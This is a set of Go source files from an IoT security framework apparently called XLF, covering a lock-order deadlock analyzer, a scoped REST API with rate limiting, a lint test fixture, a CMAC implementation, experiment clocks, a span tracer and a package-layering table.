	// Edge pass over every function body, literals included (a literal
	// starts with nothing held: it runs on its own goroutine or later —
	// assuming the creator's locks are still held would invent edges).
	for _, pkg := range pkgs {
		pt := l.oracle.typesOf(pkg)
		for fi := range pkg.Files {
			file := &pkg.Files[fi]
			imports := importMap(file.AST)
			for _, fn := range Functions(file.AST) {
				l.recordEdges(pkg, pt, file, imports, fn)
			}
		}
	}
	for e := range l.edges {
		if l.adj[e.from] == nil {
			l.adj[e.from] = make(map[string]bool)
		}
		l.adj[e.from][e.to] = true
	}
}

func sameStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// recordEdges runs the held-set dataflow over one function's CFG and
// records held→acquired edges. Two passes: fixpoint to converge block
// entry states, then one recording sweep from the converged states.
func (l *LockOrder) recordEdges(pkg *Package, pt *pkgTypes, file *File, imports map[string]string, fn Function) {
	g := BuildCFG(fn.Name, fn.Body)
	in := make([]map[string]bool, len(g.Blocks))
	for i := range in {
		in[i] = make(map[string]bool)
	}
	transfer := func(held map[string]bool, b *Block, record bool) map[string]bool {
		out := make(map[string]bool, len(held))
		for id := range held {
			out[id] = true
		}
		for _, n := range b.Nodes {
			l.transferNode(out, n, pkg, pt, file, imports, record)
		}
		return out
	}
	work := true
	for rounds := 0; work && rounds < 2*len(g.Blocks)+2; rounds++ {
		work = false
		for _, b := range g.Blocks {
			out := transfer(in[b.Index], b, false)
			for _, s := range g.Blocks {
				if !isSucc(b, s) {
					continue
				}
				for id := range out {
					if !in[s.Index][id] {
						in[s.Index][id] = true
						work = true
					}
				}
			}
		}
	}
	for _, b := range g.Blocks {
		transfer(in[b.Index], b, true)
	}
}

func isSucc(b, s *Block) bool {
	for _, x := range b.Succs {
		if x == s {
			return true
		}
	}
	return false
}

// transferNode applies one CFG node to the held set, recording edges
// when asked. Deferred subtrees are skipped entirely (a deferred Unlock
// keeps the lock held to function exit, which is the truth for
// ordering); nested literals are their own functions.
func (l *LockOrder) transferNode(held map[string]bool, n ast.Node, pkg *Package, pt *pkgTypes, file *File, imports map[string]string, record bool) {
	if _, isDefer := n.(*ast.DeferStmt); isDefer {
		return
	}
	inspectNode(n, func(x ast.Node) bool {
		switch x := x.(type) {
		case *ast.FuncLit, *ast.DeferStmt:
			return false
		case *ast.CallExpr:
			if id, acquire, ok := lockIdOf(pt, x); ok {
				if acquire {
					if record {
						l.addEdges(held, []string{id}, pkg, file, x.Pos())
					}
					held[id] = true
				} else {
					delete(held, id)
				}
				return true
			}
			c, _ := resolveCall(pt, imports, pkg.ImportPath, x)
			if c.recv == "?" || c.name == "" {
				return true
			}
			// The callee acquires (and, if balanced, releases) its own
			// locks: edges flow from everything held here into each one.
			if acq := l.summaries[funcKey(c.pkg, c.recv, c.name)]; len(acq) > 0 && record {
				l.addEdges(held, acq, pkg, file, x.Pos())
			}
		}
		return true
	})
}

// addEdges records held→acquired for every pair, at the given site.
func (l *LockOrder) addEdges(held map[string]bool, acquired []string, pkg *Package, file *File, pos token.Pos) {
	if len(held) == 0 {
		return
	}
	from := make([]string, 0, len(held))
	for id := range held {
		from = append(from, id)
	}
	sort.Strings(from)
	line := pkg.Fset.Position(pos).Line
	w := lockWitness{pkg: pkg, file: file, pos: pos, loc: sourceLoc(pkg, file, line)}
	for _, f := range from {
		for _, t := range acquired {
			e := lockEdge{from: f, to: t}
			l.edges[e] = append(l.edges[e], w)
		}
	}
}

// lockIdOf resolves a Lock/RLock/Unlock/RUnlock call to a stable lock
// identity. Field mutexes key on owner type and field name; package
// scoped mutexes on package path and variable name. Anything else —
// local mutex variables, unresolved receivers — returns !ok.
func lockIdOf(pt *pkgTypes, call *ast.CallExpr) (id string, acquire bool, ok bool) {
	sel, isSel := call.Fun.(*ast.SelectorExpr)
	if !isSel || len(call.Args) != 0 {
		return "", false, false
	}
	switch sel.Sel.Name {
	case "Lock", "RLock":
		acquire = true
	case "Unlock", "RUnlock":
	default:
		return "", false, false
	}
	if pt == nil {
		return "", false, false
	}
	switch recv := sel.X.(type) {
	case *ast.SelectorExpr: // x.mu.Lock()
		if s, found := pt.info.Selections[recv]; found && s.Kind() == types.FieldVal {
			owner := namedOf(s.Recv())
			fobj := s.Obj()
			if owner != "" && fobj != nil && fobj.Pkg() != nil {
				return fobj.Pkg().Path() + "." + owner + "." + fobj.Name(), acquire, true
			}
		}
	case *ast.Ident: // package-level `var mu sync.Mutex`
		if obj := pt.info.Uses[recv]; obj != nil {
			if v, isVar := obj.(*types.Var); isVar && v.Pkg() != nil && v.Parent() == v.Pkg().Scope() {
				return v.Pkg().Path() + "." + v.Name(), acquire, true
			}
		}
	}
	return "", false, false
}

// Check implements Analyzer: report edges witnessed in this package
// that lie on a cycle. One witness per edge per package keeps the
// output readable; every package on the cycle still gets its own
// report, so cross-package inconsistencies surface on both sides.
func (l *LockOrder) Check(pkg *Package) []Finding {
	if !l.prepared {
		l.Prepare([]*Package{pkg})
	}
	edges := make([]lockEdge, 0, len(l.edges))
	for e := range l.edges {
		edges = append(edges, e)
	}
	sort.Slice(edges, func(i, j int) bool {
		if edges[i].from != edges[j].from {
			return edges[i].from < edges[j].from
		}
		return edges[i].to < edges[j].to
	})
	allowed := make(map[*File]map[int]bool)
	var out []Finding
	for _, e := range edges {
		w, found := l.packageWitness(e, pkg)
		if !found || !l.reaches(e.to, e.from) {
			continue
		}
		if allowed[w.file] == nil {
			allowed[w.file] = allowedLines(pkg.Fset, w.file.AST, AllowLockOrderMarker)
		}
		if allowed[w.file][pkg.Fset.Position(w.pos).Line] {
			continue
		}
		var msg string
		switch {
		case e.from == e.to:
			msg = fmt.Sprintf("%s is acquired while already held (self-deadlock on a non-reentrant mutex)", shortLock(e.to))
		case l.adj[e.to][e.from]:
			msg = fmt.Sprintf("inconsistent lock order: %s acquired while holding %s, but the opposite order occurs at %s — a potential deadlock", shortLock(e.to), shortLock(e.from), l.counterSite(e))
		default:
			msg = fmt.Sprintf("%s acquired while holding %s lies on a lock-order cycle (potential deadlock)", shortLock(e.to), shortLock(e.from))
		}
		out = append(out, pkg.finding("lockorder", w.pos, "%s", msg))
	}
	return out
}

// packageWitness picks this package's canonical witness for an edge:
// the earliest position in the package's fileset (file load order is
// name-sorted), so output is deterministic under any scheduling.
func (l *LockOrder) packageWitness(e lockEdge, pkg *Package) (lockWitness, bool) {
	best := lockWitness{}
	found := false
	for _, w := range l.edges[e] {
		if w.pkg != pkg {
			continue
		}
		if !found || w.pos < best.pos {
			best = w
			found = true
		}
	}
	return best, found
}

// counterSite names the globally-smallest witness of the reverse edge
// for the inconsistent-order message. Locations are import-path based,
// so the string is identical on every checkout.
func (l *LockOrder) counterSite(e lockEdge) string {
	rev := lockEdge{from: e.to, to: e.from}
	best := ""
	for _, w := range l.edges[rev] {
		if best == "" || w.loc < best {
			best = w.loc
		}
	}
	if best == "" {
		return "?"
	}
	return best
}

// reaches reports whether `from` reaches `to` in the acquisition graph.
func (l *LockOrder) reaches(from, to string) bool {
	if from == to {
		return l.adj[from][to] || l.selfLoopVia(from)
	}
	seen := map[string]bool{from: true}
	queue := []string{from}
	for len(queue) > 0 {
		cur := queue[0]
		queue = queue[1:]
		for next := range l.adj[cur] {
			if next == to {
				return true
			}
			if !seen[next] {
				seen[next] = true
				queue = append(queue, next)
			}
		}
	}
	return false
}

// selfLoopVia reports whether id lies on a cycle through other nodes.
func (l *LockOrder) selfLoopVia(id string) bool {
	for next := range l.adj[id] {
		if next != id && l.reaches(next, id) {
			return true
		}
	}
	return false
}

// shortLock trims the import path to its last segment for readability:
// "xlf/internal/core.Core.mu" → "core.Core.mu".
func shortLock(id string) string {
	if i := strings.LastIndex(id, "/"); i >= 0 {
		return id[i+1:]
	}
	return id
}

var _ ModuleAnalyzer = (*LockOrder)(nil)
