package service

import (
	"fmt"
	"time"

	"xlf/internal/xauth"
)

// Scope is an OAuth2-style API scope (§IV-C1: "a read-only API client
// should not be allowed to access an endpoint providing administration
// functionality").
type Scope string

// API scopes.
const (
	ScopeRead  Scope = "read:device"
	ScopeWrite Scope = "write:device"
	ScopeAdmin Scope = "admin"
)

// scopeRank orders scopes by power.
func scopeRank(s Scope) int {
	switch s {
	case ScopeRead:
		return 1
	case ScopeWrite:
		return 2
	case ScopeAdmin:
		return 3
	default:
		return 0
	}
}

// APIToken is a scoped bearer token for the REST surface, derived from an
// xauth SSO token: basic users get read, advanced get write, and admin is
// only minted explicitly.
type APIToken struct {
	SSO   xauth.Token
	Scope Scope
}

// API is the platform's REST-like surface with per-call validation and
// simple token-bucket rate limiting per subject.
type API struct {
	cloud  *Cloud
	signer *xauth.Signer
	now    func() time.Duration

	// RatePerMinute caps calls per subject per minute (0 = unlimited).
	RatePerMinute int
	calls         map[string][]time.Duration

	accepted, rejected uint64
}

// NewAPI wraps a cloud with an authenticated API surface.
func NewAPI(cloud *Cloud, signer *xauth.Signer, now func() time.Duration) *API {
	if now == nil {
		now = func() time.Duration { return 0 }
	}
	return &API{cloud: cloud, signer: signer, now: now, calls: make(map[string][]time.Duration)}
}

// Stats returns (accepted, rejected) call counts.
func (a *API) Stats() (uint64, uint64) { return a.accepted, a.rejected }

// MintToken derives an API token from a verified SSO token.
func (a *API) MintToken(sso xauth.Token) (APIToken, error) {
	if err := a.signer.Verify(sso, a.now(), ""); err != nil {
		return APIToken{}, fmt.Errorf("service: mint: %w", err)
	}
	scope := ScopeRead
	if sso.Priv >= xauth.Advanced && sso.MFA {
		scope = ScopeWrite
	}
	return APIToken{SSO: sso, Scope: scope}, nil
}

// validate runs signature, scope and rate checks for one call.
func (a *API) validate(t APIToken, need Scope) error {
	if err := a.signer.Verify(t.SSO, a.now(), ""); err != nil {
		a.rejected++
		return err
	}
	if scopeRank(t.Scope) < scopeRank(need) {
		a.rejected++
		return fmt.Errorf("%w: have %s, need %s", ErrScopeViolation, t.Scope, need)
	}
	if a.RatePerMinute > 0 {
		now := a.now()
		hist := a.calls[t.SSO.Subject]
		cut := 0
		for cut < len(hist) && hist[cut] < now-time.Minute {
			cut++
		}
		hist = hist[cut:]
		if len(hist) >= a.RatePerMinute {
			a.rejected++
			a.calls[t.SSO.Subject] = hist
			return fmt.Errorf("service: rate limit exceeded for %s", t.SSO.Subject)
		}
		a.calls[t.SSO.Subject] = append(hist, now)
	}
	a.accepted++
	return nil
}

// GetStatus reads a device attribute (read scope).
func (a *API) GetStatus(t APIToken, deviceID, attr string) (Event, error) {
	if err := a.validate(t, ScopeRead); err != nil {
		return Event{}, err
	}
	ev, ok := a.cloud.Shadow(deviceID, attr)
	if !ok {
		return Event{}, ErrUnknownDevice
	}
	return ev, nil
}

// SendCommand actuates a device (write scope).
func (a *API) SendCommand(t APIToken, deviceID, command string) error {
	if err := a.validate(t, ScopeWrite); err != nil {
		return err
	}
	return a.cloud.UserCommand(t.SSO.Subject, deviceID, command)
}

// InstallApp deploys a SmartApp (admin scope).
func (a *API) InstallApp(t APIToken, app *SmartApp) error {
	if err := a.validate(t, ScopeAdmin); err != nil {
		return err
	}
	return a.cloud.InstallApp(app)
}
