// Package mixfix exercises the atomicmix rule: variables touched by
// sync/atomic in one place and plainly in another, WaitGroup-by-value
// signatures, holder-struct copies, and the accesses that must stay
// quiet (the atomic sites themselves, composite-literal keys, waivers).
package mixfix

import (
	"sync"
	"sync/atomic"
)

// --- A field guarded by sync/atomic in one method, plain elsewhere.

type counter struct {
	n uint64
}

func (c *counter) inc() {
	atomic.AddUint64(&c.n, 1)
}

func (c *counter) load() uint64 {
	return atomic.LoadUint64(&c.n)
}

func (c *counter) bad() uint64 {
	return c.n // want "n is accessed with sync/atomic in inc .* but plainly here in bad"
}

func (c *counter) badStore(v uint64) {
	c.n = v // want "n is accessed with sync/atomic in inc .* but plainly here in badStore"
}

// initOK names the field as a composite-literal key, which is not an
// access.
func initOK() *counter {
	return &counter{n: 0}
}

//xlf:allow-atomicmix: single-goroutine setup phase, reviewed
func allowedPlain(c *counter) uint64 {
	return c.n
}

// --- A package-level variable under sync/atomic.

var hits uint64

func hit() {
	atomic.AddUint64(&hits, 1)
}

func readHits() uint64 {
	return hits // want "hits is accessed with sync/atomic in hit .* but plainly here in readHits"
}

// --- WaitGroup and lock-holder copies.

type holder struct {
	wg sync.WaitGroup
}

func (h holder) run() {} // want "method run has a value receiver holding a sync.WaitGroup"

func spawn(h holder) { // want "parameter of spawn copies a sync.WaitGroup by value"
	_ = h
}

func spawnOK(h *holder) {
	_ = h
}

func copyHolder(h *holder) {
	cp := *h // want "assignment copies struct holder .holds a sync.WaitGroup. by value"
	_ = cp
}

type box struct {
	mu sync.Mutex
}

func copyBox(b *box) {
	cp := *b // want "assignment copies struct box .holds a sync lock. by value"
	_ = cp
}

func pointerOK(b *box) {
	alias := b // pointer copy shares the lock: quiet
	_ = alias
}
