package lwc

import (
	"crypto/cipher"
	"crypto/subtle"
	"fmt"
	"hash"
)

// CMAC (OMAC1, NIST SP 800-38B) over any 64- or 128-bit block cipher. The
// XLF device layer uses CMAC with a lightweight cipher as its message
// authentication primitive, per the paper's Table III framing of
// "lightweight MACs" built from lightweight block ciphers.

// cmacRb returns the finite-field constant for subkey derivation.
func cmacRb(blockSize int) byte {
	switch blockSize {
	case 8:
		return 0x1B
	case 16:
		return 0x87
	default:
		return 0
	}
}

type cmac struct {
	blk        cipher.Block
	k1, k2     []byte
	x, scratch []byte
	buf        []byte
}

var _ hash.Hash = (*cmac)(nil)

// NewCMAC returns a hash.Hash computing CMAC over the given block cipher.
// Only 64- and 128-bit block ciphers are supported.
func NewCMAC(blk cipher.Block) (hash.Hash, error) {
	n := blk.BlockSize()
	if cmacRb(n) == 0 {
		return nil, fmt.Errorf("lwc: CMAC requires a 64- or 128-bit block cipher, got %d bits", n*8)
	}
	m := &cmac{blk: blk}
	// Subkeys: L = E(0); K1 = dbl(L); K2 = dbl(K1).
	l := make([]byte, n)
	blk.Encrypt(l, l)
	m.k1 = dbl(l, cmacRb(n))
	m.k2 = dbl(m.k1, cmacRb(n))
	m.Reset()
	return m, nil
}

// dbl doubles a field element: left shift by one, conditionally XORing Rb.
func dbl(v []byte, rb byte) []byte {
	out := make([]byte, len(v))
	var carry byte
	for i := len(v) - 1; i >= 0; i-- {
		out[i] = v[i]<<1 | carry
		carry = v[i] >> 7
	}
	// Constant-time conditional XOR of Rb into the last byte.
	out[len(out)-1] ^= rb & byte(subtle.ConstantTimeByteEq(carry, 1)*0xFF)
	return out
}

func (m *cmac) Size() int      { return m.blk.BlockSize() }
func (m *cmac) BlockSize() int { return m.blk.BlockSize() }

func (m *cmac) Reset() {
	n := m.blk.BlockSize()
	m.x = make([]byte, n)
	m.scratch = make([]byte, n)
	m.buf = m.buf[:0]
}

func (m *cmac) Write(p []byte) (int, error) {
	n := m.blk.BlockSize()
	m.buf = append(m.buf, p...)
	// Process all complete blocks except a possibly-final one (the last
	// block is handled specially at Sum time).
	for len(m.buf) > n {
		xorBytes(m.scratch, m.x, m.buf[:n])
		m.blk.Encrypt(m.x, m.scratch)
		m.buf = m.buf[n:]
	}
	return len(p), nil
}

// Sum appends the MAC to b. Sum does not alter the running state, matching
// the hash.Hash contract.
func (m *cmac) Sum(b []byte) []byte {
	n := m.blk.BlockSize()
	last := make([]byte, n)
	switch {
	case len(m.buf) == n:
		xorBytes(last, m.buf, m.k1)
	default:
		copy(last, m.buf)
		last[len(m.buf)] = 0x80
		xorBytes(last, last, m.k2)
	}
	xorBytes(last, last, m.x)
	tag := make([]byte, n)
	m.blk.Encrypt(tag, last)
	return append(b, tag...)
}

func xorBytes(dst, a, b []byte) {
	for i := range dst {
		dst[i] = a[i] ^ b[i]
	}
}
