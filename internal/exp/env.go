package exp

import (
	"math/rand"
	"time"
)

// Clock supplies monotonic elapsed-time readings for the few experiment
// sections that measure real execution speed (the Table III throughput
// column and the E4 DPI matching paths). Experiments never read the wall
// clock directly: timing flows through the Env, so tests can substitute a
// deterministic clock and replay an entire report byte-identically.
type Clock func() time.Duration

// WallClock returns a Clock backed by the process monotonic clock. This is
// the one sanctioned wall-clock read in the experiment suite; xlf-vet's
// determinism rule bans any other (see //xlf:allow-wallclock).
func WallClock() Clock {
	start := time.Now() //xlf:allow-wallclock benchmark timing source
	return func() time.Duration {
		return time.Since(start) //xlf:allow-wallclock benchmark timing source
	}
}

// StepClock returns a fake Clock that advances by step on every reading,
// so each timed section reports the same fixed elapsed time. The
// determinism regression tests use it to assert that two runs of the same
// experiment render identical tables.
func StepClock(step time.Duration) Clock {
	var now time.Duration
	return func() time.Duration {
		now += step
		return now
	}
}

// Env carries everything an experiment depends on besides its inputs: the
// seed for its random streams, the clock for throughput timing, and the
// worker budget for inner parameter sweeps. Every experiment is a pure
// function of its Env.
type Env struct {
	Seed  int64
	Clock Clock

	// ClockFactory, when set, supplies an independent Clock for every
	// Fork. Clocks are stateful closures, so concurrent experiments must
	// not share one: the scheduler forks the root Env per experiment (and
	// Sweep per sweep point) and relies on this factory for isolation.
	// When nil, Fork reuses Clock and only sequential execution is safe.
	ClockFactory func() Clock

	// Workers bounds the fan-out of inner parameter sweeps (see Sweep).
	// Zero or one means sequential.
	Workers int
}

// NewEnv returns the standard environment: seeded randomness and
// wall-clock throughput timing.
func NewEnv(seed int64) *Env {
	return &Env{Seed: seed, Clock: WallClock(), ClockFactory: WallClock}
}

// NewStepEnv returns a fully deterministic environment: seeded randomness
// and a fixed fake clock, so every timed section reports the same elapsed
// time and the rendered report is byte-identical across runs and across
// -parallel levels. cmd/xlf-bench's -clock step mode and the determinism
// tests use it.
func NewStepEnv(seed int64) *Env {
	factory := func() Clock { return StepClock(time.Millisecond) }
	return &Env{Seed: seed, Clock: factory(), ClockFactory: factory}
}

// Fork returns an independent child environment: same seed and worker
// budget, with a fresh clock from ClockFactory when one is present. The
// scheduler forks once per experiment and Sweep once per sweep point, so
// no two goroutines ever share a clock closure.
func (e *Env) Fork() *Env {
	out := &Env{Seed: e.Seed, Clock: e.Clock, ClockFactory: e.ClockFactory, Workers: e.Workers}
	if e.ClockFactory != nil {
		out.Clock = e.ClockFactory()
	}
	return out
}

// Rand returns a fresh deterministic generator for the experiment's seed.
// Each call restarts the stream, so experiments cannot leak RNG state into
// one another and single-experiment runs match full-suite runs.
func (e *Env) Rand() *rand.Rand { return rand.New(rand.NewSource(e.Seed)) }

// timeSection runs f and returns its elapsed duration on the env clock.
func (e *Env) timeSection(f func()) time.Duration {
	t0 := e.Clock()
	f()
	return e.Clock() - t0
}
