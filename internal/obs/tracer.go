// Package obs is XLF's runtime observability substrate: structured span
// tracing and a race-safe metrics registry, shared by every layer of the
// framework (DESIGN.md §8). It sits at the very bottom of the layer DAG —
// it imports nothing — so the sim kernel, the packet network, the layer
// functions and the Core can all emit telemetry without coupling to each
// other.
//
// Two properties are load-bearing:
//
//   - Determinism. Spans are timestamped on the *simulation* clock
//     (injected, never the wall clock), so a traced run replays
//     byte-identically from a seed at any scheduler parallelism.
//   - Near-zero disabled cost. A nil *Tracer is the "off" state: every
//     method is nil-safe, the hot paths guard emission with a nil check,
//     and the disabled path costs one predictable branch (benchmarked in
//     BenchmarkEmitDisabled and the root BenchmarkCoreIngest guard).
package obs

import (
	"sync"
	"time"
)

// Canonical layer names for Span.Layer. The set mirrors the XLF
// architecture: the three paper layers plus the substrates and
// network-function sublayers that produce their own telemetry.
const (
	LayerSim     = "sim"
	LayerDevice  = "device"
	LayerNetsim  = "netsim"
	LayerDPI     = "dpi"
	LayerShaping = "shaping"
	LayerXAuth   = "xauth"
	LayerService = "service"
	LayerCore    = "core"
)

// DefaultCapacity is the ring-buffer size used when a Tracer is built
// with capacity <= 0: large enough to hold a full E1-scale scenario,
// small enough to stay allocation-bounded.
const DefaultCapacity = 1 << 16

// Span is one annotated instant (or interval, when Dur is set) in the
// life of the system: a kernel event, a packet hop, a correlation-engine
// decision. Field order is the xlf-trace/v1 wire order — do not reorder
// without bumping TraceSchema.
type Span struct {
	// Seq orders spans within one trace. The Tracer assigns it at
	// emission; WriteTrace renumbers into file order.
	Seq uint64 `json:"seq"`
	// Time is the simulation-clock timestamp (nanoseconds offset from
	// the simulation epoch).
	Time time.Duration `json:"t_ns"`
	// Dur, when nonzero, is the interval the span covers (e.g. a
	// packet's send-to-deliver latency or a modeled auth latency).
	Dur time.Duration `json:"dur_ns,omitempty"`
	// Layer names the producing layer (Layer* constants).
	Layer string `json:"layer"`
	// Op is the operation within the layer ("deliver", "ingest", ...).
	Op string `json:"op"`
	// Device attributes the span to a device ID when one is known.
	Device string `json:"device,omitempty"`
	// Cause annotates why the span happened (signal kind, rule ID,
	// denial reason, event name).
	Cause string `json:"cause,omitempty"`
	// Detail carries free-form context (detector source, user name).
	Detail string `json:"detail,omitempty"`
}

// Tracer records spans into a fixed-capacity ring buffer, evicting the
// oldest span once full. A nil *Tracer is the disabled tracer: every
// method no-ops (or returns a zero value), which is the fast path the
// hot loops rely on. All methods are safe for concurrent use.
type Tracer struct {
	mu      sync.Mutex
	clock   func() time.Duration
	buf     []Span
	head    int // next write slot
	n       int // occupied slots
	seq     uint64
	evicted uint64
	rec     *FlightRecorder
}

// NewTracer builds a tracer with the given ring capacity (DefaultCapacity
// when capacity <= 0). clock supplies timestamps for Emit; it may be nil
// (spans then carry Time 0 until SetClock binds the simulation clock).
//
//xlf:owned(obs)
func NewTracer(capacity int, clock func() time.Duration) *Tracer {
	if capacity <= 0 {
		capacity = DefaultCapacity
	}
	return &Tracer{buf: make([]Span, capacity), clock: clock}
}

// Enabled reports whether the tracer records anything; it is the
// idiomatic nil check.
func (t *Tracer) Enabled() bool { return t != nil }

// SetClock binds the timestamp source for Emit — the testbed points it at
// the simulation kernel's Now. Nil-safe.
func (t *Tracer) SetClock(clock func() time.Duration) {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.clock = clock
	t.mu.Unlock()
}

// SetRecorder tees every emitted span into the given flight recorder
// (nil detaches). The recorder sees spans after Seq assignment, so its
// dumps carry trace-consistent sequence numbers. Nil-safe.
func (t *Tracer) SetRecorder(rec *FlightRecorder) {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.rec = rec
	t.mu.Unlock()
}

// Emit records an instant span timestamped by the bound clock.
//
//xlf:hotpath
func (t *Tracer) Emit(layer, op, device, cause string) {
	if t == nil {
		return
	}
	t.mu.Lock()
	var at time.Duration
	if t.clock != nil {
		at = t.clock()
	}
	t.emitLocked(Span{Time: at, Layer: layer, Op: op, Device: device, Cause: cause})
	t.mu.Unlock()
}

// EmitAt records an instant span with an explicit simulation timestamp —
// the form the hot paths use, since they already hold the sim time.
//
//xlf:hotpath
func (t *Tracer) EmitAt(at time.Duration, layer, op, device, cause string) {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.emitLocked(Span{Time: at, Layer: layer, Op: op, Device: device, Cause: cause})
	t.mu.Unlock()
}

// EmitSpan records a fully-specified span (Dur, Detail). The tracer
// assigns Seq; the caller supplies Time.
//
//xlf:hotpath
func (t *Tracer) EmitSpan(s Span) {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.emitLocked(s)
	t.mu.Unlock()
}

// Region is an in-flight interval span opened by Start/StartAt and
// emitted by End/EndAt. Every Region that is started must be ended on
// every code path (the xlf-vet pairing rule enforces this); ending twice
// is a no-op, so `defer r.End(...)` composes with an early explicit end.
// A Region from a nil Tracer is nil, and all Region methods are
// nil-safe, preserving the zero-cost disabled path.
type Region struct {
	t    *Tracer
	span Span
}

// Start opens an interval span timestamped by the bound clock. The
// returned Region must be ended on all paths; it is nil (and safe to
// use) when the tracer is disabled.
func (t *Tracer) Start(layer, op, device string) *Region {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	var at time.Duration
	if t.clock != nil {
		at = t.clock()
	}
	t.mu.Unlock()
	return &Region{t: t, span: Span{Time: at, Layer: layer, Op: op, Device: device}}
}

// StartAt opens an interval span at an explicit simulation timestamp —
// the form code on the sim hot path uses, since it already holds the
// current time.
func (t *Tracer) StartAt(at time.Duration, layer, op, device string) *Region {
	if t == nil {
		return nil
	}
	return &Region{t: t, span: Span{Time: at, Layer: layer, Op: op, Device: device}}
}

// SetOp rewrites the region's operation before it is emitted (e.g. an
// "access" region that turns out to be a denial). Nil-safe.
func (r *Region) SetOp(op string) {
	if r != nil {
		r.span.Op = op
	}
}

// SetDetail attaches free-form context to the region. Nil-safe.
func (r *Region) SetDetail(detail string) {
	if r != nil {
		r.span.Detail = detail
	}
}

// End closes the region at the bound clock's current time and emits it
// with the given cause. Subsequent End/EndAt calls no-op. Nil-safe.
func (r *Region) End(cause string) {
	if r == nil || r.t == nil {
		return
	}
	t := r.t
	t.mu.Lock()
	var at time.Duration
	if t.clock != nil {
		at = t.clock()
	}
	r.endLocked(at, cause)
	t.mu.Unlock()
}

// EndAt closes the region at an explicit simulation timestamp.
// Subsequent End/EndAt calls no-op. Nil-safe.
func (r *Region) EndAt(at time.Duration, cause string) {
	if r == nil || r.t == nil {
		return
	}
	t := r.t
	t.mu.Lock()
	r.endLocked(at, cause)
	t.mu.Unlock()
}

// endLocked emits the region's span; the caller holds r.t.mu. Marking
// r.t nil afterwards makes End idempotent.
func (r *Region) endLocked(at time.Duration, cause string) {
	if at > r.span.Time {
		r.span.Dur = at - r.span.Time
	}
	r.span.Cause = cause
	r.t.emitLocked(r.span)
	r.t = nil
}

// emitLocked appends one span; the caller holds t.mu.
//
//xlf:hotpath
func (t *Tracer) emitLocked(s Span) {
	t.seq++
	s.Seq = t.seq
	t.buf[t.head] = s
	t.head++
	if t.head == len(t.buf) {
		t.head = 0
	}
	if t.n < len(t.buf) {
		t.n++
	} else {
		t.evicted++
	}
	if t.rec != nil {
		t.rec.Record(s)
	}
}

// Spans returns a copy of the recorded spans, oldest first. Nil-safe.
func (t *Tracer) Spans() []Span {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]Span, 0, t.n)
	start := t.head - t.n
	if start < 0 {
		start += len(t.buf)
	}
	for i := 0; i < t.n; i++ {
		out = append(out, t.buf[(start+i)%len(t.buf)])
	}
	return out
}

// Len returns the number of spans currently held. Nil-safe.
func (t *Tracer) Len() int {
	if t == nil {
		return 0
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.n
}

// Evicted returns how many spans the ring displaced. Nil-safe.
func (t *Tracer) Evicted() uint64 {
	if t == nil {
		return 0
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.evicted
}

// Cap returns the ring capacity. Nil-safe.
func (t *Tracer) Cap() int {
	if t == nil {
		return 0
	}
	return len(t.buf)
}
