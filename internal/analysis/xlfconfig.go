package analysis

// This file is the one table the ISSUE/DESIGN architecture lives in: the
// XLF layer DAG plus the package sets the determinism and errdrop
// contracts cover. cmd/xlf-vet and the CI gate both consume XLFAnalyzers;
// changing the architecture means changing this table in the same commit.

// XLFModule is the module path the rules apply to.
const XLFModule = "xlf"

// XLFLayerTable is DESIGN.md §2 compiled into data: every package's
// complete set of allowed intra-module imports (module-relative; "." is
// the root xlf facade package, "*" grants everything). The shape encodes
// the XLF layering:
//
//   - substrates (sim, metrics, proto, lwc, ml) import nothing;
//   - layer functions import only their own substrate — device-layer
//     packages (device, channel) never see service-layer ones (service,
//     xauth, analytics) and vice versa;
//   - only the XLF Core and the root facade couple layers;
//   - harnesses (attack, testbed, exp) sit above the layers;
//   - internal packages never import cmd/* or examples/* (no entry
//     grants them, so the DAG forbids it structurally).
var XLFLayerTable = map[string][]string{
	// Root facade: assembles every layer around the Core.
	".": {
		"internal/analytics", "internal/behavior", "internal/core",
		"internal/dpi", "internal/ids", "internal/netsim", "internal/obs",
		"internal/service", "internal/shaping", "internal/testbed",
		"internal/xauth",
	},

	// Substrates: leaves of the DAG. obs is the observability substrate:
	// importable from every layer (it imports nothing, so no cycles).
	"internal/obs":     {},
	"internal/sim":     {"internal/obs"},
	"internal/metrics": {},
	"internal/proto":   {},
	"internal/lwc":     {},
	"internal/ml":      {},

	// Device layer.
	"internal/device":  {"internal/lwc"},
	"internal/channel": {"internal/device", "internal/lwc"},

	// Network layer.
	"internal/netsim":  {"internal/obs", "internal/sim"},
	"internal/dnsp":    {"internal/lwc", "internal/netsim"},
	"internal/ids":     {"internal/netsim"},
	"internal/shaping": {"internal/netsim", "internal/obs", "internal/sim"},
	"internal/dpi":     {"internal/obs"},
	// behavior watches device DFAs over network traces: it may read both.
	"internal/behavior": {"internal/device", "internal/netsim"},

	// Service layer.
	"internal/xauth":     {"internal/obs"},
	"internal/service":   {"internal/lwc", "internal/xauth"},
	"internal/analytics": {},

	// The XLF Core: the only layer-coupling component besides the facade.
	"internal/core": {"internal/netsim", "internal/obs"},

	// Harnesses above the layers.
	"internal/attack": {
		"internal/device", "internal/netsim", "internal/obs",
		"internal/service", "internal/sim",
	},
	"internal/testbed": {
		"internal/attack", "internal/channel", "internal/device",
		"internal/lwc", "internal/netsim", "internal/obs",
		"internal/service", "internal/sim",
	},
	"internal/exp": {
		".", "internal/analytics", "internal/attack", "internal/behavior",
		"internal/channel", "internal/core", "internal/device",
		"internal/dnsp", "internal/dpi", "internal/lwc",
		"internal/metrics", "internal/ml", "internal/netsim",
		"internal/obs", "internal/proto", "internal/service",
		"internal/shaping", "internal/sim", "internal/testbed",
		"internal/xauth",
	},

	// Tooling: the analyzers import nothing; the driver imports them.
	"internal/analysis": {},

	// Binaries and examples: leaves at the top of the DAG.
	"cmd/probe":      {"internal/exp"},
	"cmd/xlf-attack": {".", "internal/attack", "internal/service"},
	"cmd/xlf-bench":  {"internal/exp", "internal/obs"},
	"cmd/xlf-sim":    {".", "internal/analytics", "internal/attack", "internal/service"},
	"cmd/xlf-trace":  {"internal/obs"},
